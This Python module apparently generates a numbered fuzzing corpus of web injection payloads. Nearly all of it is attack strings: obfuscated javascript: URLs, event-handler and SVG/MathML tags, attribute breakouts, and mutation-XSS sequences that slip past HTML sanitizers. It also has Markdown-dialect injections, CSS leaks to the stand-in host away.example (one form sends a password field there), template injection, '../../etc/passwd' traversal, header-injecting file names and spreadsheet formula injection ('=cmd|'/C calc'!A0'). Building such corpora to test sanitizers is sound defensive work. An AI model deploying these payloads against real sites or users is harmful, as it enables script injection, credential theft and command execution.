"""Texts that run a script, or fetch something from elsewhere, wherever a page lets them.

Made of pieces: ways of naming an address that runs, tags that act by themselves, places that a text may
break out of, what browsers mend differently from cleaners, Markdown, style sheets, names of files.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle

AWAY = "away.example"
"""The host that a text fetches from, where it can."""


@dataclass(frozen=True)
class Payload:
    """One text; it calls ``alert`` with its number, or asks ``AWAY`` for its number."""

    number: int
    family: str
    text: str


ADDRESSES = (
    *("javascript:§", "JaVaScRiPt:§", " javascript:§", "\tjavascript:§", "\x01javascript:§"),
    *("\x1fjavascript:§", "java\tscript:§", "java\nscript:§", "java\rscript:§", "javascript\t:§"),
    *("java&Tab;script:§", "java&NewLine;script:§", "javascript&colon;§", "&#106;avascript:§"),
    *("&#x6A;avascript:§", "&#0000106avascript:§", "jav&#x0A;ascript:§", "&#1;javascript:§"),
    *("java&#173;script:§", "&Tab;javascript:§", "%6Aavascript:§", "javascript%3A§"),
    *("java\\script:§", "java\\\tscript:§", "javascript\\:§", "\u200bjavascript:§"),
    *("\ufeffjavascript:§", "\u2028javascript:§", "ｊavascript:§", "javaſcript:§"),
    *("javascript://%0a§", "javascript:/*--></title></style>*/§//", "javascript:'<b onload=§>'"),
    *("feed:javascript:§", "view-source:javascript:§", "jar:javascript:§!/", "vbscript:§"),
    *("livescript:§", "mocha:§", "blob:javascript:§", "about:javascript:§", "intent:§"),
    *("data:text/html,<script>§</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+"),
    *("data:image/svg+xml,<svg/onload=§>", "data:,§", "DATA:text/html;charset=utf-7,+ADw-script+AD4-§"),
    *("//¶", "\\\\¶", "/\\¶", "/\t/¶", "https:¶", "http:/\\¶", "///¶", "\\/¶"),
)  # fmt: skip
LINKS = (
    "[ver]({})",
    "[ver](<{}>)",
    '[ver]({} "tú")',
    "<{}>",
    "[ver][a]\n\n[a]: {}",
    "![ver]({})",
    "[![ver]({})](https://ejemplo.pe)",
    "| a |\n|---|\n| [ver]({}) |",
)
"""How Markdown leads to an address."""

ACTING = (
    *("<script>§</script>", "<script src=//¶></script>", "<ScRiPt>§</sCrIpT>", "<script\t>§</script\n>"),
    *("<script/x>§</script>", "<<script>§//<</script>", "<script>§", "<script type=module>§</script>"),
    *("<img src=x onerror=§>", "<img/src/onerror=§>", "<image src=x onerror=§>", "<img src=//¶>"),
    *("<img src='x'onerror='§'>", '<img src="x"onerror="§">', "<img src=x onerror=`§`>"),
    *("<img src=x\fonerror=§>", "<img\x0bsrc=x onerror=§>", "<img src=x onerror\n=\n§>", "<img srcset=//¶>"),
    *("<img src=x OnErRoR=§>", "<img src=x onerror=&#97;lert(1)>", "<img src=x:x onerror=§//", "<img onerror=§ src"),
    *("<svg onload=§>", "<svg/onload=§//", "<svg><script>§</script>", "<svg><script href=data:,§ />"),
    *("<svg><script xlink:href=//¶ />", "<svg><animate onbegin=§ attributeName=x dur=1s>"),
    *("<svg><set onbegin=§ attributename=x>", "<svg><a><animate attributeName=href values=javascript:§ /><text y=20>x</text>"),
    *("<svg><use href=data:image/svg+xml,<svg/onload=§>>", "<svg><use href=//¶#x>", "<svg><image href=//¶>"),
    *("<svg><foreignObject><body onload=§>", "<svg><style>@import url(//¶)</style>", "<svg><desc><img src=x onerror=§>"),
    *("<svg><title><img src=x onerror=§>", "<svg><metadata><script>§</script>", "<svg><feImage href=//¶>"),
    *("<math href=javascript:§>x", "<math><mi xlink:href=javascript:§>x", "<math><maction actiontype=statusline xlink:href=javascript:§>x"),
    *("<math><annotation-xml encoding=text/html><img src=x onerror=§>", "<math><mtext><img src=x onerror=§>"),
    *("<body onload=§>", "<body onpageshow=§>", "<body background=//¶>", "<html onmouseover=§>", "<frameset onload=§>"),
    *("<iframe src=javascript:§>", "<iframe srcdoc='<script>parent.§</script>'>", "<iframe src=//¶>", "<iframe onload=§>"),
    *("<object data=javascript:§>", "<object data=//¶>", "<embed src=javascript:§>", "<embed src=//¶>", "<applet code=x archive=//¶>"),
    *("<link rel=stylesheet href=//¶>", "<link rel=preload as=image href=//¶ onerror=§>", "<link rel=import href=//¶>"),
    *("<link rel=prefetch href=//¶>", "<link rel=dns-prefetch href=//¶>", "<base href=//¶/>", "<base target=x><a href=javascript:§>x</a>"),
    *("<meta http-equiv=refresh content='0;url=javascript:§'>", "<meta http-equiv=refresh content='0;url=//¶'>"),
    *("<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">", "<meta http-equiv=set-cookie content=pegup=1>"),
    *("<form action=javascript:§><button>x", "<form action=//¶><input name=password><button>x", "<button formaction=javascript:§>x"),
    *("<input type=image src=//¶ onerror=§>", "<input autofocus onfocus=§>", "<select autofocus onfocus=§>", "<textarea autofocus onfocus=§>"),
    *("<keygen autofocus onfocus=§>", "<div tabindex=1 autofocus onfocus=§>", "<div contenteditable autofocus onfocusin=§>"),
    *("<details open ontoggle=§>", "<dialog open onclose=§>", "<div popover id=p onbeforetoggle=§><button popovertarget=p>x"),
    *("<video src=x onerror=§>", "<video><source src=x onerror=§>", "<video poster=//¶>", "<audio src=//¶ onerror=§>"),
    *("<video controls onloadstart=§><source>", "<track src=//¶ default>", "<marquee onstart=§>", "<bgsound src=//¶>"),
    *("<div onmouseover=§>x", "<a onclick=§>x", "<p onpointerenter=§>x", "<b oncontentvisibilityautostatechange=§ style=content-visibility:auto>x"),
    *("<p style=animation-name:x onanimationstart=§>x", "<p id=x ontransitionend=§ style=transition:all>x", "<p onscroll=§ style=overflow:scroll>x"),
    *("<a href=javascript:§>x", "<a href='java\nscript:§'>x", "<a href=//¶ ping=//¶>x", "<a href=https://ejemplo.pe target=_blank onclick=§>x"),
    *("<area href=javascript:§>", "<table background=//¶>", "<td background=javascript:§>", "<isindex action=javascript:§ type=submit>"),
    *("<x onclick=§>x", "<x-y onconnected=§>", "<template shadowrootmode=open><img src=x onerror=§></template>", "<slot onslotchange=§>"),
    *("<xss/*/onfocus=§ tabindex=1 autofocus>", "<noscript><img src=x onerror=§></noscript>", "<portal src=//¶>", "<fencedframe src=//¶>"),
)  # fmt: skip
"""Tags that run or fetch by themselves, or when they are touched."""

HANDLERS = re.findall(
    r"\S+",
    """onabort onafterprint onanimationend onauxclick onbeforecopy onbeforeinput onbeforeunload onblur
    oncancel onchange oncopy oncut ondblclick ondrag ondrop onerror onfocusout onformdata onfullscreenchange
    ongotpointercapture onhashchange oninput oninvalid onkeydown onload onmessage onmousedown onmousemove
    onpagehide onpaste onpointerdown onpointermove onpopstate onreset onresize onscrollend onsearch
    onsecuritypolicyviolation onselect onstorage onsubmit ontouchstart onunload onvisibilitychange onwheel""",
)
QUOTED = ("<p {}=§>x", '<b {}="§">x', "<i/{}='§'>x", "<svg {}\t=§>")

LEAVING = (
    *('">', "'>", "`>", '"/>', "'/>", '"\n>', "\\\">", "&quot;>", "&#34;>", "%22>", '" x="', "' x='"),
    *("</title>", "</textarea>", "</script>", "</style>", "</select>", "</option></select>", "</button>"),
    *("</a>", "</p>", "</label>", "</h1>", "</main>", "</body></html>", "</noscript>", "</iframe>", "</svg>"),
    *("-->", "--!>", "]]>", "*/", "?>", "%>", "}}", "{#", "\\", "\r\n\r\n", "\u2028", "<!--", "<![CDATA["),
)  # fmt: skip
ONCE_OUTSIDE = ("<img src=x onerror=§>", "<script>§</script>", "<svg/onload=§>")
ATTRIBUTES = (
    *('"onfocus=§ autofocus x="', "'onfocus=§ autofocus x='", '" onmouseover="§', "' onmouseover='§"),
    *("` onmouseover=§ `", '"style="background:url(//¶)', '"src="//¶" x="', '"href="javascript:§" x="'),
    *('" formaction="javascript:§', '"/onpointerenter="§', "x onclick=§", "\"\tonclick='§'\tx=\""),
    *('"accesskey="x" onclick="§" x="', '"popover ontoggle=§ x="', "\" srcdoc='<script>§</script>", '" is="x" onload="§'),
)  # fmt: skip
"""Out of a value, into the tag around it."""

CODE = (
    *("{{constructor.constructor('§')()}}", "{{7*7}}", "{{''.__class__.__mro__}}", "{% import os %}{{os}}", "${§}", "#{§}"),
    *("<%= § %>", "<?php § ?>", "[[§]]", "{§}", "§", ";§;//", "';§;//", '";§;//', "`;§;//", "\\';§;//", "\\\";§;//"),
    *("'-§-'", '"-§-"', "`-§-`", "${`§`}", '"}];§;//', "*/§/*", "\u2028§", "\\u0022;§;//", "\\x27;§;//", "</script><script>§"),
    *("\\u003cscript\\u003e§\\u003c/script\\u003e", "\\x3cimg src=x onerror=§\\x3e", "%3Cscript%3E§%3C/script%3E"),
    *("&lt;script&gt;§&lt;/script&gt;", "&#60;script&#62;§&#60;/script&#62;", "&#x3C;img src=x onerror=§&#x3E;", "&amp;lt;script&amp;gt;§"),
    *("＜script＞§＜/script＞", "‹script›§‹/script›", "+ADw-script+AD4-§+ADw-/script+AD4-", "%253Cscript%253E§", "\ufeff<script>§</script>"),
    *("<scr<script>ipt>§</scr</script>ipt>", "<scr\u200bipt>§</scr\u200bipt>", "<img src=x onerror\u00a0=§>", "<ſcript>§</ſcript>", "<ımg src=x onerror=§>"),
    *("__proto__", "constructor", "toString", "../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "/¶", "//¶", "\\\\¶\\x"),
)  # fmt: skip
"""In templates, scripts, JSON and addresses; and what is decoded once too often."""

MENDED = (
    '<noscript><p title="</noscript><img src=x onerror=§>">',
    '<svg></p><style><a id="</style><img src=x onerror=§>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>',
    '<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=x onerror=§>">',
    '<svg><desc><style><img title="</style><img src=x onerror=§>">',
    "<svg><style><!--</style><img src=x onerror=§>-->",
    "<listing>&lt;img src=x onerror=§&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=§>'>",
    "<noembed><p title='</noembed><img src=x onerror=§>'>",
    "<noframes><p title='</noframes><img src=x onerror=§>'>",
    "<plaintext><img src=x onerror=§>",
    "<iframe><p title='</iframe><img src=x onerror=§>'>",
    "<textarea><p title='</textarea><img src=x onerror=§>'>",
    "<title><p title='</title><img src=x onerror=§>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=§>'>",
    "<select><keygen><img src=x onerror=§>",
    "<table><caption><svg><style></table><img src=x onerror=§>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=§>",
    "<p><svg><p><style><!--</style><img src=x onerror=§>",
    "<a><svg><a><style></a><img src=x onerror=§>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=§>'>",
    "<math><mi><style><!--</style><img title='--></mi><img src=x onerror=§>'>",
    "<math><!--><img src=x onerror=§>-->",
    "<!--><img src=x onerror=§>-->",
    "<!---><img src=x onerror=§>-->",
    "<!-- --!><img src=x onerror=§>-->",
    "<!--<!-- --><img src=x onerror=§>",
    "<?xml-stylesheet href='javascript:§'?><img src=x onerror=§>",
    "<!DOCTYPE x [<!ENTITY e '<img src=x onerror=§>'>]>&e;",
    "<![CDATA[<img src=x onerror=§>]]>",
    "<svg><![CDATA[><img src=x onerror=§>]]>",
    "<template><img src=x onerror=§></template>",
    "<div id=location><form id=document><input name=cookie>",
    "<a id=defaultView><a id=defaultView name=x href=javascript:§>",
    "<form id=x tabindex=0 autofocus onfocus=§><input name=attributes><input name=nodeName>",
    "<a href='x'onclick=§>x</a>>>",
    "</p/onclick=§><img src=x onerror=§>",
    "</br onclick=§>",
    "<img src=x onerror=§ <p>",
    "<img alt='<x' onerror=§ src=x>",
    "<svg><a xlink:href=javascript:§><text y=9>x",
    "<svg xmlns:x=http://www.w3.org/1999/xlink><a x:href=javascript:§><text y=9>x",
    "<html xmlns:e='http://www.w3.org/1999/xhtml'><e:script>§</e:script>",
)  # fmt: skip
"""What a browser's parser moves, closes or decodes otherwise than a simpler one."""

STYLED = (
    *("<style>@import url(//¶)</style>", "<style>*{background:url(//¶)}</style>", "<style>input[value^=a]{background:url(//¶)}</style>"),
    *("<p style=background:url(//¶)>x", "<p style='behavior:url(//¶)'>x", "<p style='-moz-binding:url(//¶)'>x", "<p style=width:expression(§)>x"),
    *("<p style='background:\\75rl(//¶)'>x", "<p style=list-style-image:url(//¶)>x", "<p style='cursor:url(//¶),auto'>x", "<p style=content:url(//¶)>x"),
    *("<p style=position:fixed;inset:0>x", "<font color=red face=//¶>x", "<style>@font-face{font-family:x;src:url(//¶)}*{font-family:x}</style>"),
    *("<style>@charset 'utf-7';+ACo-{background:url(//¶)}</style>", "<link rel=stylesheet href=data:text/css,*{background:url(//¶)}>"),
)  # fmt: skip

MARKED = (
    *('```"><img src=x onerror=§>\nx\n```', "```\n</code></pre><img src=x onerror=§>\n```", "    </pre><img src=x onerror=§>", "`</code><img src=x onerror=§>`"),
    *("# <img src=x onerror=§>", "# x {#x\" onclick=§}", "## [x](javascript:§) {: onclick=§}", "{: onclick=§ }", "{onclick=§}\nx"),
    *("> <script>§</script>", "- <img src=x onerror=§>", "1. <svg/onload=§>", "| <img src=x onerror=§> |\n|---|\n| <svg/onload=§> |"),
    *('| a"onclick=§ |\n|---|\n| x |', "| a |\n|:\"onclick=§:|\n| x |", "| a |\n|---|\n| `|`</table><img src=x onerror=§> |"),
    *('http://ejemplo.pe/"onmouseover=§', "http://ejemplo.pe/'onmouseover=§", "www.ejemplo.pe/\"onmouseover=\"§", "<http://ejemplo.pe/\"onclick=§>"),
    *('<a@ejemplo.pe"onclick=§>', "a@ejemplo.pe'onclick=§", "http://ejemplo.pe/<img src=x onerror=§>", "http://ejemplo.pe/&quot;onclick=§"),
    *('[x](https://ejemplo.pe "\\" onmouseover=\\"§")', "[x](https://ejemplo.pe '\"onmouseover=§')", '[x](https://ejemplo.pe"onclick=§)', "[x](<https://ejemplo.pe\"onclick=§>)"),
    *('![x" onerror="§](x)', '![x](x "\\" onerror=\\"§")', "![<img src=x onerror=§>](x)", "![x](//¶)", "![x](https://¶/x.png)", "![x][¶]\n\n[¶]: https://¶/x.png"),
    *("[<img src=x onerror=§>](https://ejemplo.pe)", "[`</a><svg/onload=§>`](https://ejemplo.pe)", "[a][b\"onclick=§]\n\n[b\"onclick=§]: https://ejemplo.pe"),
    *("[a]: https://ejemplo.pe 'x\"onclick=§'\n\n[a]", "[^a]\n\n[^a]: <img src=x onerror=§>", "[^\"onclick=§]\n\n[^\"onclick=§]: x", "[^a]\n\n[^a]: [x](javascript:§)"),
    *("<im*g src=x onerr*or=§>", "<scr**ipt>§</scr**ipt>", "~~<img src=x onerror=§>~~", "\\<script>§\\</script>", "<script\\>§</script\\>", "<\\script>§"),
    *("- [ ] <img src=x onerror=§>", "x  \n<img src=x onerror=§>", "&lt;img src=x onerror=§&gt;", "&#60img src=x onerror=§&#62", "<img src=\"x`` onerror=§ ``\">"),
    *("{<img src=x onerror=§>}", "{acequia|<img src=x onerror=§>}", "{<svg/onload=§>|acequia}", "{A02} <img src=x onerror=§>", "{A02\"onclick=§}"),
    *("/// question | <img src=x onerror=§>\n\n- [x] <svg/onload=§>\n- [ ] No\n///", "/// deeper | <script>§</script>\n<img src=x onerror=§>\n///", "/// <img src=x onerror=§>\n///"),
    *("---\ntitle: <script>§</script>\n---", "*[x]: <img src=x onerror=§>", "x\n: <img src=x onerror=§>", "[TOC]\n\n# <img src=x onerror=§>", "\x02klzzwxh:0\x03<img src=x onerror=§>"),
    *("<div>\n*<img src=x onerror=§>*\n</div>", "<details open ontoggle=§>\n\n**x**\n\n</details>", "<script>\n\n§\n\n</script>", "<!--\n\n--><img src=x onerror=§>", "<?x\n\n?><img src=x onerror=§>"),
)  # fmt: skip
"""Markdown, of any dialect, and our own signs in it."""

SPREADSHEET = (
    *('=HYPERLINK("https://¶","x")', "=cmd|'/C calc'!A0", "+§", "-§", "@SUM(1)", "\t=1+1", '"=1+1', '";<img src=x onerror=§>;"', "=IMPORTXML(\"https://¶\",\"//a\")", "%0A=1+1"),
)  # fmt: skip
NAMES = (
    *('"><img src=x onerror=§>', "x'onclick=§", "x\"; filename=\"y.html", "x\r\nContent-Type: text/html\r\n\r\n<script>§</script>", "\u202efdp.x<img src=x onerror=§>", "../<svg onload=§>"),
    *("<script>§", "x.html", "x.svg", "x.pdf.html", "${§}", ";§;", "x%22onclick=§", "<!--", "C:\\<img src=x onerror=§>", "x?<script>§", "x#<script>§", "..", "con", "`§`"),
)  # fmt: skip
"""Of files; an ending is put behind them."""


def corpus() -> list[Payload]:
    """All of them, each once, numbered from 1."""
    found: dict[str, str] = {}
    for family, shape in _shapes():
        found.setdefault(shape, family)
    return [
        Payload(number, family, _filled(shape, number))
        for number, (shape, family) in enumerate(found.items(), 1)
    ]


def _shapes() -> Iterator[tuple[str, str]]:
    """Families and texts in which ``§`` runs and ``¶`` is elsewhere."""
    links = cycle(LINKS)
    for address in ADDRESSES:
        yield "address", address
        for _each in range(3):
            yield "link", next(links).format(address)
        yield "tag with an address", f'<a href="{address}">x</a>'
    for name, tags in (("acting", ACTING), ("mended", MENDED), ("styled", STYLED)):
        yield from ((name, tag) for tag in tags)
    for handler, tag in zip(HANDLERS, cycle(QUOTED)):
        yield "handler", tag.format(handler)
    for leaving, tag in zip(LEAVING, cycle(ONCE_OUTSIDE)):
        yield "leaving", leaving + tag
    for name, texts in (
        *(("attribute", ATTRIBUTES), ("code", CODE), ("marked", MARKED)),
        *(("spreadsheet", SPREADSHEET), ("name", NAMES)),
    ):
        yield from ((name, text) for text in texts)


def _filled(shape: str, number: int) -> str:
    return shape.replace("§", f"alert({number})").replace("¶", f"{AWAY}/{number}")
